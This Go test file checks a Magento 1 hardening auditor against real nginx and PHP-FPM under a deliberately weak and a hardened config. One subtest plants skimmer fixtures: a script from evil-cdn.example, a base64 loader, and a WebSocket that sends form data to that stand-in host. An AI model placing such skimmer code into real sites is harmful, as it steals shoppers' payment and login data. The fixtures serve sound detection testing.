package m1verify

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"text/template"
	"time"

	"github.com/mageflow/mageflow/internal/host/webstack"
	"github.com/mageflow/mageflow/internal/m1/m1audit"
	"github.com/mageflow/mageflow/internal/testkit/testenv"
)

const (
	liveHost    = "shop.test"
	stagingHost = "staging.shop.test"
	adminFront  = "adminx"
)

// newStore writes a tiny Magento-1-shaped tree: the front controller from
// testdata/index.php, the files attackers look for, and the static
// directories canaries go to.
func newStore(t *testing.T) string {
	t.Helper()
	root := filepath.Join(t.TempDir(), "shop")
	index, err := os.ReadFile("testdata/index.php")
	if err != nil {
		t.Fatal(err)
	}
	files := map[string]string{
		"index.php":    string(index),
		"get.php":      "<?php http_response_code(404); echo 'get.php: no such media';\n",
		"app/Mage.php": "<?php\nfinal class Mage { public static function run() {} }\n",
		"app/etc/local.xml": "<?xml version=\"1.0\"?>\n<config><global><crypt><key><![CDATA[0123456789abcdef]]></key></crypt>" +
			"<resources><default_setup><connection><host>localhost</host><username>shop</username><password>secret</password></connection></default_setup></resources></global>" +
			"<admin><routers><adminhtml><args><frontName><![CDATA[" + adminFront + "]]></frontName></args></adminhtml></routers></admin></config>\n",
		"app/etc/admin.txt":           adminFront + "\n",
		"downloader/index.php":        "<?php echo '<html><head><title>Magento Connect Manager</title></head><body>Maged_Controller</body></html>';\n",
		"downloader/connect.cfg":      "::ConnectConfig::v::a:1:{}\n",
		".git/config":                 "[core]\n\trepositoryformatversion = 0\n\tbare = false\n",
		".git/HEAD":                   "ref: refs/heads/main\n",
		"cron.php":                    "<?php // Mage::app('admin')->dispatchEvent('default'); runs silently\n",
		"shell/indexer.php":           "<?php echo 'This script cannot be run from Browser. This is the shell script.';\n",
		"RELEASE_NOTES.txt":           "==== 1.9.4.5 ====\n",
		"var/log/system.log":          "2024-01-01T00:00:00+00:00 ERR (3): Warning: something\n",
		"js/prototype/prototype.js":   "var Prototype = { Version: '1.7' };\n",
		"skin/frontend/base/a.css":    "body{}\n",
		"media/catalog/product/a.txt": "x\n",
	}
	for name, content := range files {
		p := filepath.Join(root, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return root
}

// weakConf is the classic nginx-wiki Magento recipe: any .php runs, nothing
// is denied, and the staging vhost is open.
const weakConf = `server {
    listen {{.Addr}};
    server_name ` + liveHost + `;
    root {{.Root}};
    index index.php;
    location / {
        try_files $uri $uri/ @handler;
    }
    location @handler {
        rewrite / /index.php;
    }
    location ~ \.php/ {
        rewrite ^(.*\.php)/ $1 last;
    }
    location ~ \.php$ {
        if (!-e $request_filename) { rewrite / /index.php last; }
        include /etc/nginx/fastcgi_params;
        fastcgi_param SCRIPT_FILENAME $document_root$fastcgi_script_name;
        fastcgi_pass unix:{{.Socket}};
    }
}
server {
    listen {{.Addr}};
    server_name ` + stagingHost + `;
    location / {
        return 200 "staging copy\n";
    }
}
`

// strongConf is what the hardening asks for: ^~ prefix denies no regex can
// override, PHP only through index.php and get.php with a fixed
// SCRIPT_FILENAME, static directories without PHP, the admin behind basic
// auth with the misc-scripts save refused, and a staging vhost behind auth.
const strongConf = `server {
    listen {{.Addr}};
    server_name ` + liveHost + `;
    root {{.Root}};
    index index.php;

    location ^~ /app/         { deny all; }
    location ^~ /downloader/  { deny all; }
    location ^~ /includes/    { deny all; }
    location ^~ /lib/         { deny all; }
    location ^~ /pkginfo/     { deny all; }
    location ^~ /var/         { deny all; }
    location ^~ /dev/         { deny all; }
    location ^~ /shell/       { deny all; }
    location ^~ /magmi/       { deny all; }
    location ^~ /media/downloadable/ { deny all; }
    location ^~ /media/customer/     { deny all; }
    location ^~ /media/import/       { deny all; }
    location ~ (^|/)\.        { deny all; }
    location ~* ^/errors/.+\.xml$ { deny all; }
    location ~* ^/(cron\.php|install\.php|release_notes\.txt|composer\.(json|lock))$ { deny all; }
    location ~* ^/(index\.php/?)?rss/(order|catalog) { return 403; }

    location ^~ /media/ {
        location ~* \.(php|phtml|phar)(/|$) { return 404; }
        try_files $uri $uri/ /get.php$is_args$args;
    }
    location ^~ /skin/ {
        location ~* \.(php|phtml|phar)(/|$) { return 404; }
        try_files $uri =404;
    }
    location ^~ /js/ {
        location ~* \.(php|phtml|phar)(/|$) { return 404; }
        try_files $uri =404;
    }

    location ~* ^/(index\.php/?)?{{.Admin}}(/|$) {
        auth_basic "admin";
        auth_basic_user_file {{.Htpasswd}};
        location ~* system_config/save/section/design { return 403; }
        include /etc/nginx/fastcgi_params;
        fastcgi_param SCRIPT_FILENAME $document_root/index.php;
        fastcgi_pass unix:{{.Socket}};
    }
    location = /index.php {
        include /etc/nginx/fastcgi_params;
        fastcgi_param SCRIPT_FILENAME $document_root/index.php;
        fastcgi_pass unix:{{.Socket}};
    }
    location ~ ^/index\.php/ {
        include /etc/nginx/fastcgi_params;
        fastcgi_param SCRIPT_FILENAME $document_root/index.php;
        fastcgi_pass unix:{{.Socket}};
    }
    location = /get.php {
        include /etc/nginx/fastcgi_params;
        fastcgi_param SCRIPT_FILENAME $document_root/get.php;
        fastcgi_pass unix:{{.Socket}};
    }
    location ~* \.(php|phtml|phar)(/|$) { return 404; }
    location / {
        try_files $uri $uri/ @handler;
    }
    location @handler {
        include /etc/nginx/fastcgi_params;
        fastcgi_param SCRIPT_FILENAME $document_root/index.php;
        fastcgi_pass unix:{{.Socket}};
    }
}
server {
    listen {{.Addr}};
    server_name ` + stagingHost + `;
    root {{.Root}};
    auth_basic "staging";
    auth_basic_user_file {{.Htpasswd}};
    location / {
        try_files $uri $uri/ =404;
    }
}
`

type store struct {
	root string
	base string // http://127.0.0.1:port
}

// startStore serves a fresh tree with real nginx and php-fpm under conf.
func startStore(t *testing.T, conf string) store {
	t.Helper()
	_, err := webstack.NginxBinary()
	testenv.ToolOrSkip(t, err)
	_, err = webstack.PHPFPMBinary()
	testenv.ToolOrSkip(t, err)
	root := newStore(t)
	base := t.TempDir()
	pool := webstack.Pool{Dir: filepath.Join(base, "fpm"), PM: "static", MaxChildren: 4, ProcessControlTimeout: 5 * time.Second}
	fpm, err := webstack.StartPHPFPM(t.Context(), pool)
	if err != nil {
		t.Fatal(err)
	}
	port, err := webstack.FreePort()
	if err != nil {
		t.Fatal(err)
	}
	htpasswd := filepath.Join(base, "htpasswd")
	if err := os.WriteFile(htpasswd, []byte("ops:{PLAIN}not-sent-by-the-test\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	var b strings.Builder
	err = template.Must(template.New("conf").Parse(conf)).Execute(&b, map[string]string{
		"Addr": fmt.Sprintf("127.0.0.1:%d", port), "Root": root, "Socket": pool.SocketPath(),
		"Admin": adminFront, "Htpasswd": htpasswd,
	})
	if err != nil {
		t.Fatal(err)
	}
	ngx, err := webstack.StartNginx(t.Context(), filepath.Join(base, "nginx"), b.String())
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if t.Failed() {
			t.Logf("nginx logs:\n%s\nphp-fpm logs:\n%s", ngx.Logs(), fpm.Logs())
		}
		_ = ngx.Stop()
		_ = fpm.Stop()
	})
	return store{root: root, base: fmt.Sprintf("http://127.0.0.1:%d", port)}
}

func (s store) options(t *testing.T) (Options, *[]string) {
	t.Helper()
	var mu sync.Mutex
	var written []string
	return Options{
		BaseURL:            s.base,
		Host:               liveHost,
		StagingHosts:       []string{stagingHost},
		AdminFrontName:     adminFront,
		AllowedScriptHosts: []string{"cdn.allowed.example"},
		Canaries:           true,
		WebRoot:            s.root,
		Timeout:            10 * time.Second,
		OnCanary: func(p string) {
			mu.Lock()
			defer mu.Unlock()
			written = append(written, p)
		},
	}, &written
}

func byID(results []m1audit.CheckResult) map[string]m1audit.CheckResult {
	m := map[string]m1audit.CheckResult{}
	for _, r := range results {
		m[r.ID] = r
	}
	return m
}

// assertCanariesGone checks that every recorded canary and anything with
// the canary name scheme is gone.
func assertCanariesGone(t *testing.T, root string, written []string) {
	t.Helper()
	for _, p := range written {
		if _, err := os.Stat(p); !os.IsNotExist(err) {
			t.Errorf("canary %s still exists (stat: %v)", p, err)
		}
	}
	for _, d := range canaryDirs {
		left, _ := filepath.Glob(filepath.Join(root, d, CanaryPrefix+"*"))
		if len(left) > 0 {
			t.Errorf("canaries left in %s: %v", d, left)
		}
	}
}

func dump(t *testing.T, r m1audit.CheckResult) string {
	t.Helper()
	var b strings.Builder
	fmt.Fprintf(&b, "%s %s: %s\n", r.ID, r.Status, r.Evidence.Detail)
	for _, e := range r.Evidence.HTTP {
		fmt.Fprintf(&b, "  %s %s -> %d leaked=%v %s\n", e.Method, e.URL, e.Status, e.Leaked, e.Note)
	}
	for _, f := range r.Evidence.Findings {
		fmt.Fprintf(&b, "  finding %s %s %s\n", f.SignatureID, f.Path, f.Evidence)
	}
	return b.String()
}

func TestWeakConfigFails(t *testing.T) {
	s := startStore(t, weakConf)
	opts, written := s.options(t)
	start := time.Now()
	results, err := Verify(t.Context(), opts)
	if err != nil {
		t.Fatal(err)
	}
	t.Logf("weak: %d checks, %d requests in %s", len(results), Requests(results), time.Since(start).Round(time.Millisecond))
	got := byID(results)
	for _, id := range []string{
		"m1.http.path.downloader", "m1.http.path.downloader_cfg", "m1.http.path.local_xml",
		"m1.http.path.git_config", "m1.http.path.git_head", "m1.http.path.cron_php",
		"m1.http.path.shell", "m1.http.path.release_notes", "m1.http.path.var_log",
		"m1.http.path.rss_order_new", "m1.http.path.rss_notifystock",
		"m1.http.admin.front", "m1.http.admin.shoplift",
		"m1.http.staging_auth", "m1.http.misc_scripts_post",
		"m1.http.php_exec.media", "m1.http.php_exec.skin", "m1.http.php_exec.js",
	} {
		r, ok := got[id]
		if !ok {
			t.Errorf("no result %s", id)
			continue
		}
		if r.Status != m1audit.StatusFail {
			t.Errorf("%s: status %s, want fail\n%s", id, r.Status, dump(t, r))
		}
	}
	// The leak is proven by the body, not only the status.
	leaked := false
	for _, e := range got["m1.http.path.local_xml"].Evidence.HTTP {
		leaked = leaked || (e.Leaked && e.Status == 200)
	}
	if !leaked {
		t.Errorf("local.xml served but no evidence marked leaked\n%s", dump(t, got["m1.http.path.local_xml"]))
	}
	// The media canary's nonce came back: executed, not just shown.
	if ev := got["m1.http.php_exec.media"].Evidence.HTTP; len(ev) == 0 || !ev[0].Leaked || !strings.Contains(ev[0].Note, "EXECUTED") {
		t.Errorf("media canary not reported as executed\n%s", dump(t, got["m1.http.php_exec.media"]))
	}
	// The misc-scripts POST reached PHP: the fixture logged it.
	log, _ := os.ReadFile(filepath.Join(s.root, "var", "requests.log"))
	if !strings.Contains(string(log), "POST /"+adminFront+"/system_config/save/section/design/") {
		t.Errorf("the weak config should let the POST reach PHP; PHP request log:\n%s", log)
	}
	if len(*written) != 4 {
		t.Errorf("OnCanary called %d times, want 4: %v", len(*written), *written)
	}
	assertCanariesGone(t, s.root, *written)
}

func TestStrongConfigPasses(t *testing.T) {
	s := startStore(t, strongConf)
	opts, written := s.options(t)
	start := time.Now()
	results, err := Verify(t.Context(), opts)
	if err != nil {
		t.Fatal(err)
	}
	t.Logf("strong: %d checks, %d requests in %s", len(results), Requests(results), time.Since(start).Round(time.Millisecond))
	for _, r := range results {
		if r.Status != m1audit.StatusPass {
			t.Errorf("%s: %s, want pass\n%s", r.ID, r.Status, dump(t, r))
		}
	}
	want := 1 + len(catalogue) + 2 + len(canaryIDs) + 2
	if len(results) != want {
		t.Errorf("%d results, want %d", len(results), want)
	}
	log, _ := os.ReadFile(filepath.Join(s.root, "var", "requests.log"))
	if strings.Contains(string(log), "system_config") {
		t.Errorf("the misc-scripts POST reached PHP behind the strong config:\n%s", log)
	}
	assertCanariesGone(t, s.root, *written)

	t.Run("InjectedSkimmer", func(t *testing.T) {
		// A skimmer as it arrives through design/head/includes: a foreign
		// script, an inline base64 loader and a same-origin file.
		inject := `<script src="https://evil-cdn.example/jquery.min.js"></script>` +
			`<script>var u = atob("aHR0cHM6Ly9ldmlsLWNkbi5leGFtcGxlL2xvYWRlci5qcw=="); var s = document.createElement("script"); s.src = u;</script>` +
			`<script src="/js/varien/analytics.js"></script>`
		if err := os.WriteFile(filepath.Join(s.root, "var", "inject.html"), []byte(inject), 0o644); err != nil {
			t.Fatal(err)
		}
		if err := os.MkdirAll(filepath.Join(s.root, "js", "varien"), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(s.root, "js", "varien", "analytics.js"), []byte(`(function(){var w = new WebSocket("wss://evil-cdn.example/s"); w.send(document.forms[0]);})();`), 0o644); err != nil {
			t.Fatal(err)
		}
		opts, written := s.options(t)
		opts.Canaries = false
		results, err := Verify(t.Context(), opts)
		if err != nil {
			t.Fatal(err)
		}
		if len(*written) != 0 {
			t.Errorf("canaries written with Canaries off: %v", *written)
		}
		got := byID(results)
		sig := got[CheckPageSignatures]
		if sig.Status != m1audit.StatusFail || !sig.Compromise {
			t.Fatalf("signatures: %s compromise=%v, want fail\n%s", sig.Status, sig.Compromise, dump(t, sig))
		}
		var inlineHit, fileHit bool
		for _, f := range sig.Evidence.Findings {
			inlineHit = inlineHit || (f.SignatureID == "js.atob_then_script" && strings.Contains(f.Path, "inline script"))
			fileHit = fileHit || (f.SignatureID == "js.websocket_literal" && strings.HasSuffix(f.Path, "/js/varien/analytics.js"))
		}
		if !inlineHit || !fileHit {
			t.Errorf("inline loader found=%v, same-origin WebSocket file found=%v\n%s", inlineHit, fileHit, dump(t, sig))
		}
		hosts := got[CheckScriptHosts]
		if hosts.Status != m1audit.StatusNeedsPerson {
			t.Fatalf("script hosts: %s, want needs_person\n%s", hosts.Status, dump(t, hosts))
		}
		for _, f := range hosts.Evidence.Findings {
			if !strings.Contains(f.Evidence, "evil-cdn.example") || strings.Contains(f.Evidence, "cdn.allowed.example") {
				t.Errorf("unexpected script-host finding %+v", f)
			}
		}
		if n := len(hosts.Evidence.Findings); n != 3 {
			t.Errorf("%d script-host findings, want 3 (one per page)\n%s", n, dump(t, hosts))
		}
		if got["m1.http.php_exec.media"].Status != m1audit.StatusNotApplicable {
			t.Errorf("canary check with canaries off: %s", got["m1.http.php_exec.media"].Status)
		}
	})
}
